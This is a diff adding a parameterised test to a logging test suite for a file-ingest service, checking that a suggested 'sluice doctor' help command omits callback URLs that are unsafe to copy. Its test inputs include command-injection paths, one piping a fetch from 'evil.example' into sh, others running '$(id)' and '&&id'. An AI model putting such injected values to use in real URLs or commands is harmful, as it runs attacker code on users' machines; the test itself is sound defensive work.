@@ -121,6 +121,23 @@ describe("a line for each event of a file's life", () => {
     expect(find("A callback failed.")).toMatchObject([{ level: "warning", key: grant.key, next: "given up" }])
   })
 
+  it.each([
+    ["/api/sluice", true],
+    ["/;curl$IFS'evil.example'|sh", false],
+    ["/$(id)", false],
+    ["/a&&id", false],
+  ])("a callback to %s failed, with a command that is safe to copy", async (path, isNamed) => {
+    const { ingest, find } = await logging("Info")
+    const app = await startApp(() => new Response("no", { status: 404 }))
+    const callbackUrl = new URL(app.url).origin + path
+    const grant = createGrant({ slug: "avatar" })
+    await register(ingest.url, { fileKeys: [grant.key], callbackUrl })
+    await putRaw(await sign(ingest.url, grant), "hello")
+    await eventually(() => find("A callback failed.").length === 1)
+    const command = `sluice doctor --callback-url ${isNamed ? callbackUrl : "<url>"}`
+    expect(find("A callback failed.")[0]!["help"]).toBe(command)
+  })
+
   it("what housekeeping ended", async () => {
     const printed = captureConsole()
     const { url } = await startIngest({ logLevel: "Info", sweepInterval: 5, unfinishedTtl: 0 })
